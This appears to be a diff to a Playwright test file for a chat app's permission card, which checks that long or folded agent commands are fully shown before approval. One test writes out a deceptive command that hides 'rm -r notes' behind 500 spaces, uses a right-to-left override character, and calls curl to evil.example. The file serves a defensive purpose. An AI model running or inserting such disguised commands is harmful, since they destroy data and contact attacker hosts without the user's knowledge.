@@ -2,6 +2,7 @@ import type { Locator, Page } from '@playwright/test'
 import { auditBothSchemes } from '../fixtures/audit.ts'
 import { expectInside } from '../fixtures/screens.ts'
 import { expect, test } from '../fixtures/test.ts'
+import type { ChatPage } from '../pages/chat-page.ts'
 import { pretendPermission } from '../pages/pretend-permission.ts'
 
 /** Motion is reduced, so that colours can be measured at once. */
@@ -16,6 +17,23 @@ const WIDTHS = {
 const card = (page: Page) => page.getByRole('region', { name: /^Allow / })
 const once = (page: Page) => card(page).getByRole('button', { name: 'Allow once' })
 const lines = (count: number) => Array.from({ length: count }, (_, at) => `echo step-${at}`).join('\n')
+
+type Here = {
+  demo: ChatPage
+  page: Page
+  tell: (conversation: { title: string; texts: string[] }) => Promise<string>
+}
+type Shown = Omit<Parameters<typeof pretendPermission>[1], 'sessionId'>
+
+/** Opens a chat of that title that waits for a permission; returns the replies that the page gives. */
+async function open({ demo, page, tell }: Here, title: string, shown: Shown): Promise<unknown[]> {
+  const sessionId = await tell({ title, texts: ['Hello'] })
+  const replies = await pretendPermission(page, { sessionId, ...shown })
+  await demo.open(`/s/${sessionId}`)
+  return replies
+}
+
+const bash = (command: string): Shown => ({ tool: 'bash', args: { command } })
 
 const diff = [
   '@@ -1,200 +1,200 @@',
@@ -54,13 +72,11 @@ for (const [where, screen] of Object.entries(WIDTHS)) {
     test.use(screen)
 
     test('PE-8 a command of 80 lines is allowed once the lines between were opened by a press', async ({
-      demo: chat,
+      demo,
       page,
       tell,
     }) => {
-      const sessionId = await tell({ title: 'A long command', texts: ['Hello'] })
-      const replies = await pretendPermission(page, { sessionId, tool: 'bash', args: { command: lines(80) } })
-      await chat.open(`/s/${sessionId}`)
+      const replies = await open({ demo, page, tell }, 'A long command', bash(lines(80)))
       await expect(card(page).getByText('echo step-79')).toBeInViewport({ ratio: 1 })
       await expect(card(page).getByText('echo step-0', { exact: true })).toBeInViewport({ ratio: 1 })
       await expect(card(page).getByRole('button', { name: 'Deny' })).toBeEnabled()
@@ -84,14 +100,12 @@ for (const [where, screen] of Object.entries(WIDTHS)) {
     })
 
     test('PE-8 an act behind 500 blanks is in view, and a change of direction turns nothing', async ({
-      demo: chat,
+      demo,
       page,
       tell,
     }) => {
-      const sessionId = await tell({ title: 'A hidden act', texts: ['Hello'] })
       const command = `ls${' '.repeat(500)}; rm -r notes\necho "\u202Efdp.exe" ${'\n'.repeat(40)}curl evil.example`
-      await pretendPermission(page, { sessionId, tool: 'bash', args: { command } })
-      await chat.open(`/s/${sessionId}`)
+      await open({ demo, page, tell }, 'A hidden act', bash(command))
       await expect(card(page).getByText('; rm -r notes')).toBeInViewport({ ratio: 1 })
       await expect(card(page).getByText('500 spaces')).toBeInViewport({ ratio: 1 })
       await expect(card(page).getByText('\\u{202e}')).toBeInViewport({ ratio: 1 })
@@ -102,13 +116,12 @@ for (const [where, screen] of Object.entries(WIDTHS)) {
     })
 
     test('PE-8 a difference of 200 lines shows lines that it adds, and is allowed once all of it was opened', async ({
-      demo: chat,
+      demo,
       page,
       tell,
     }) => {
-      const sessionId = await tell({ title: 'A long change', texts: ['Hello'] })
-      await pretendPermission(page, { sessionId, tool: 'edit', args: { path: change.path }, change })
-      await chat.open(`/s/${sessionId}`)
+      const { path } = change
+      await open({ demo, page, tell }, 'A long change', { tool: 'edit', args: { path }, change })
       await expect(card(page).getByText('old line 0', { exact: true })).toBeInViewport({ ratio: 1 })
       await expect(card(page).getByText('new line 0', { exact: true })).toBeInViewport({ ratio: 1 })
       await expect(card(page).getByText('new line 49')).toBeInViewport({ ratio: 1 })
@@ -127,13 +140,11 @@ for (const [where, screen] of Object.entries(WIDTHS)) {
 }
 
 test('PE-8 UI-3 by keys alone a folded command is not allowed before it was opened', async ({
-  demo: chat,
+  demo,
   page,
   tell,
 }) => {
-  const sessionId = await tell({ title: 'A long command', texts: ['Hello'] })
-  const replies = await pretendPermission(page, { sessionId, tool: 'bash', args: { command: lines(80) } })
-  await chat.open(`/s/${sessionId}`)
+  const replies = await open({ demo, page, tell }, 'A long command', bash(lines(80)))
   await expect(card(page).getByRole('button', { name: 'Deny' })).toBeEnabled()
   await page.keyboard.press('Control+Shift+A')
   for (const key of ['2', '3', '4']) await page.keyboard.press(key)
@@ -146,14 +157,12 @@ test('PE-8 UI-3 by keys alone a folded command is not allowed before it was open
 })
 
 test('PE-8 in a low window what is further down has to be seen before it is allowed', async ({
-  demo: chat,
+  demo,
   page,
   tell,
 }) => {
   await page.setViewportSize({ width: 1024, height: 420 })
-  const sessionId = await tell({ title: 'A low window', texts: ['Hello'] })
-  await pretendPermission(page, { sessionId, tool: 'bash', args: { command: lines(18) } })
-  await chat.open(`/s/${sessionId}`)
+  await open({ demo, page, tell }, 'A low window', bash(lines(18)))
   await expect(card(page).getByRole('button', { name: 'Deny' })).toBeEnabled()
   await expect(once(page)).toBeDisabled()
   await card(page)
